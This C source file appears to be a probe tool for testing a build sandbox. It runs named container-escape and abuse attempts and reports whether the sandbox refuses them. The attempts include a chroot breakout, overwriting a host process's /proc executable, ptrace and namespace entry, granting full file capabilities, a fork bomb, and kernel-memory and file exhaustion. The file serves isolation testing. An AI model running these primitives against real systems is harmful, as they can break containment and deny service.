/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Attacks that a shell cannot make, for the images that hostile builds start from:
 * `attack NAME [ARGUMENT…]` prints "NAME: done" or "NAME: refused (why)", and what it could read.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/netlink.h>
#include <linux/sockios.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/msg.h>
#include <sys/ptrace.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

static const char *name;

/* One attack's outcome: r is what the call returned. */
static int said(long r)
{
	if (r < 0)
		printf("%s: refused (%s)\n", name, strerrorname_np(errno));
	else
		printf("%s: done\n", name);
	fflush(stdout);
	return r < 0;
}

static void show(int fd)
{
	char text[512];
	ssize_t n = read(fd, text, sizeof(text) - 1);
	if (n > 0)
		printf("read: %.*s\n", (int)n, text);
}

/* From a second root below the first one, "..", again and again, leads to the real one. */
static int leave_chroot(void)
{
	/* The tools stay at hand by a descriptor; the programs out there come first. */
	int bin = open("/bin", O_PATH | O_DIRECTORY);
	if (dup2(bin, 9) < 0 || close(bin) < 0 ||
	    setenv("PATH", "/usr/bin:/usr/sbin:/proc/self/fd/9", 1) < 0)
		return -1;
	mkdir("/inner", 0700);
	if (chroot("/inner") < 0)
		return -1;
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return -1;
	return chroot(".");
}

static int connect_unix(const char *path, int abstract)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	strncpy(a.sun_path + abstract, path, sizeof(a.sun_path) - 2);
	int s = socket(AF_UNIX, SOCK_STREAM, 0);
	socklen_t len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + abstract +
				    strlen(path) + !abstract);
	int r = connect(s, (struct sockaddr *)&a, len);
	if (r == 0)
		show(s);
	return r;
}

static int connect_tcp(const char *address, int port)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
	struct sockaddr_in6 b = { .sin6_family = AF_INET6, .sin6_port = htons((uint16_t)port) };
	int six = inet_pton(AF_INET, address, &a.sin_addr) != 1;
	if (six)
		inet_pton(AF_INET6, address, &b.sin6_addr);
	int s = socket(six ? AF_INET6 : AF_INET, SOCK_STREAM, 0);
	int r = s < 0 ? -1
		: six ? connect(s, (struct sockaddr *)&b, sizeof(b))
		      : connect(s, (struct sockaddr *)&a, sizeof(a));
	if (r == 0) {
		(void)!write(s, "GET / HTTP/1.0\r\n\r\n", 18);
		show(s);
	}
	return r;
}

static int send_udp(const char *address, int port)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
	inet_pton(AF_INET, address, &a.sin_addr);
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	return s < 0 ? -1 : (int)sendto(s, "question", 8, 0, (struct sockaddr *)&a, sizeof(a));
}

/* Another interface than lo would be somebody's network. */
static int find_interface(void)
{
	struct if_nameindex *i = if_nameindex();
	for (struct if_nameindex *p = i; p && p->if_index; p++)
		if (strcmp(p->if_name, "lo") != 0)
			return printf("interface %s\n", p->if_name);
	errno = ENODEV;
	return -1;
}

static int attach_shm(int key)
{
	int id = shmget(key, 0, 0);
	char *p = id < 0 ? (void *)-1 : shmat(id, NULL, SHM_RDONLY);
	if (p == (void *)-1)
		return -1;
	printf("read: %.64s\n", p);
	return 0;
}

static int set_clock(void)
{
	struct timeval now;
	gettimeofday(&now, NULL);
	return settimeofday(&now, NULL);
}

static int read_node(const char *path, mode_t type, unsigned major, unsigned minor)
{
	unlink("/tmp/.node");
	if (path[0] == '-') {
		if (mknod("/tmp/.node", type | 0600, makedev(major, minor)) < 0)
			return -1;
		path = "/tmp/.node";
	}
	int fd = open(path, O_RDWR);
	if (fd < 0)
		return -1;
	char byte;
	return (int)read(fd, &byte, 1);
}

static int write_to(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY);
	return fd < 0 ? -1 : (int)write(fd, text, strlen(text));
}

/* Write to a setting of the kernel what is in it already: nothing changes when it works. */
static int rewrite(const char *path)
{
	char text[512];
	int fd = open(path, O_RDONLY);
	ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);
	if (n < 0)
		return -1;
	text[n] = '\0';
	return write_to(path, text);
}

/* Open the program that a process of the engine runs, to write over it. */
static int overwrite_exe(const char *pid)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	int fd = open(path, O_PATH);
	if (fd < 0)
		return -1;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	return open(path, O_WRONLY);
}

static int trace(int pid)
{
	return (int)ptrace(PTRACE_ATTACH, pid, NULL, NULL);
}

static int child_namespaces(int flags)
{
	pid_t pid = fork();
	if (pid == 0)
		_exit(unshare(flags) < 0 ? errno : 0);
	int status;
	waitpid(pid, &status, 0);
	errno = WEXITSTATUS(status);
	return errno ? -1 : 0;
}

static int set_capability(const char *path)
{
	/* VFS_CAP_REVISION_2, effective, all that fit */
	unsigned caps[] = { 0x02000001, 0xffffffff, 0xffffffff, 0xffffffff, 0xffffffff };
	return setxattr(path, "security.capability", caps, sizeof(caps), 0);
}

static int fork_many(int most)
{
	for (int i = 0; i < most; i++) {
		pid_t pid = fork();
		if (pid < 0)
			break;
		if (pid == 0) {
			setsid();
			pause();
			_exit(0);
		}
	}
	sleep(20); /* what counts them has to have a chance */
	return 0;
}

/* Everybody doubles, and whoever cannot stays. */
static int fork_bomb(int times)
{
	for (int i = 0; i < times; i++)
		if (fork() < 0)
			break;
	sleep(20);
	return 0;
}

static int take_memory(int mib)
{
	for (int i = 0; i < mib; i += 16) {
		char *p = mmap(NULL, 16 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS,
			       -1, 0);
		if (p == MAP_FAILED)
			return -1;
		memset(p, 1, 16 << 20);
		usleep(10000);
	}
	sleep(1);
	return 0;
}

/* Held open only, not mapped. */
static int take_memfd(int mib)
{
	int fd = (int)syscall(SYS_memfd_create, "x", 0);
	if (fd < 0 || fallocate(fd, 0, 0, (off_t)mib << 20) < 0)
		return -1;
	sleep(20);
	return 0;
}

/* The kernel's, some 2 MiB for each set. */
static int take_semaphores(int sets)
{
	for (int i = 0; i < sets; i++)
		if (semget(IPC_PRIVATE, 32000, 0600) < 0)
			return -1;
	sleep(20);
	return 0;
}

/* The kernel's, a page for every 2 MiB that is looked at, of a map that takes nothing itself. */
static int take_tables(int gib)
{
	size_t size = (size_t)gib << 30;
	volatile char *p =
		mmap(NULL, size, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	if (p == MAP_FAILED)
		return -1;
	madvise((void *)p, size, MADV_NOHUGEPAGE);
	for (size_t i = 0; i < size; i += 2 << 20)
		(void)p[i];
	sleep(20);
	return 0;
}

static int take_terminals(int most)
{
	for (int i = 0; i < most; i++)
		if (open("/dev/ptmx", O_RDWR | O_NOCTTY) < 0)
			return -1;
	return 0;
}

static int make_deep(int most)
{
	for (int i = 0; i < most; i++)
		if (mkdir("deep", 0700) < 0 || chdir("deep") < 0)
			return -1;
	return 0;
}

static int make_many(int most)
{
	char path[32];
	mkdir("/many", 0700);
	for (int i = 0; i < most; i++) {
		snprintf(path, sizeof(path), "/many/%d", i);
		int fd = open(path, O_CREAT | O_WRONLY, 0600);
		if (fd < 0)
			return -1;
		close(fd);
	}
	return 0;
}

static int raise_limit(int resource)
{
	struct rlimit_pair {
		unsigned long soft, hard;
	} all = { ~0ul, ~0ul };
	return (int)syscall(SYS_prlimit64, 0, resource, &all, NULL);
}

int main(int argc, char **argv)
{
	const char *a = argc > 2 ? argv[2] : "";
	int n = argc > 2 ? atoi(argv[2]) : 0, m = argc > 3 ? atoi(argv[3]) : 0;
	name = argc > 1 ? argv[1] : "";
	char kind[32]; /* "tcp:loopback" is a tcp with a name of its own */
	snprintf(kind, sizeof(kind), "%.*s", (int)strcspn(name, ":"), name);
#define IS(what) else if (!strcmp(kind, what))
	if (!strcmp(kind, "outside")) { /* run the rest of the words outside of the step's root */
		if (leave_chroot() < 0)
			return said(-1);
		said(0);
		execvp(argv[2], argv + 2);
		return said(-1);
	}
	IS("unix") return said(connect_unix(a, 0));
	IS("abstract") return said(connect_unix(a, 1));
	IS("tcp") return said(connect_tcp(a, m));
	IS("udp") return said(send_udp(a, m));
	IS("raw") return said(socket(AF_INET, SOCK_RAW, IPPROTO_ICMP));
	IS("packet") return said(socket(AF_PACKET, SOCK_RAW, 0));
	IS("vsock") return said(socket(AF_VSOCK, SOCK_STREAM, 0));
	IS("alg") return said(socket(AF_ALG, SOCK_SEQPACKET, 0));
	IS("uevent") return said(socket(AF_NETLINK, SOCK_RAW, NETLINK_KOBJECT_UEVENT));
	IS("interface") return said(find_interface());
	IS("shm") return said(attach_shm(n));
	IS("msg") return said(msgget(n, 0));
	IS("clock") return said(set_clock());
	IS("hostname") return said(sethostname("hostile", 7));
	IS("mknod")
	return said(read_node("-", m ? S_IFBLK : S_IFCHR, (unsigned)n,
			      (unsigned)(argc > 4 ? atoi(argv[4]) : 0)));
	IS("device") return said(read_node(a, 0, 0, 0));
	IS("write") return said(write_to(a, argc > 3 ? argv[3] : "x"));
	IS("rewrite") return said(rewrite(a));
	IS("exe") return said(overwrite_exe(a));
	IS("ptrace") return said(trace(n));
	IS("keyctl") return said(syscall(SYS_keyctl, 0, -4, 0));
	IS("add_key") return said(syscall(SYS_add_key, "user", "hostile", "x", 1, -4));
	IS("userns") return said(child_namespaces(CLONE_NEWUSER));
	IS("mountns") return said(child_namespaces(CLONE_NEWNS));
	IS("netns") return said(child_namespaces(CLONE_NEWNET));
	IS("setns") return said(setns(open("/proc/1/ns/mnt", O_RDONLY), 0));
	IS("mount") return said(mount("none", "/tmp", "tmpfs", 0, NULL));
	IS("mount-proc") return said(mount("proc", "/tmp", "proc", 0, NULL));
	IS("mount-disk") return said(mount(a, "/tmp", "ext4", 0, NULL));
	IS("remount") return said(mount(NULL, "/usr", NULL, MS_REMOUNT | MS_BIND, NULL));
	IS("umount") return said(umount2(a, MNT_DETACH));
	IS("bpf") return said(syscall(SYS_bpf, 0, NULL, 0));
	IS("perf") return said(syscall(SYS_perf_event_open, NULL, 0, -1, -1, 0));
	IS("io_uring") return said(syscall(SYS_io_uring_setup, 1, NULL));
	IS("userfaultfd") return said(syscall(SYS_userfaultfd, 1));
	IS("module") return said(syscall(SYS_init_module, "", 0, ""));
	IS("kexec") return said(syscall(SYS_kexec_load, 0, 0, NULL, 0));
	IS("handle") return said(syscall(SYS_open_by_handle_at, AT_FDCWD, NULL, 0));
	IS("swap") return said(syscall(SYS_swapon, "/none", 0));
	IS("reboot") return said(syscall(SYS_reboot, 0, 0, 0, NULL));
	IS("iopl") return said(syscall(SYS_iopl, 3));
	IS("syslog") return said(syscall(SYS_syslog, 3, NULL, 0));
	IS("limit-file") return said(raise_limit(1));
	IS("limit-processes") return said(raise_limit(6));
	IS("capability") return said(set_capability(a));
	IS("kill") return said(kill(n, m));
	IS("forks") return said(fork_many(n));
	IS("bomb") return said(fork_bomb(n));
	IS("memory") return said(take_memory(n));
	IS("memfd") return said(take_memfd(n));
	IS("semaphores") return said(take_semaphores(n));
	IS("tables") return said(take_tables(n));
	IS("terminals") return said(take_terminals(n));
	IS("inotify") return said(inotify_init1(0));
	IS("deep") return said(make_deep(n));
	IS("many") return said(make_many(n));
	errno = EINVAL;
	return said(-1);
}
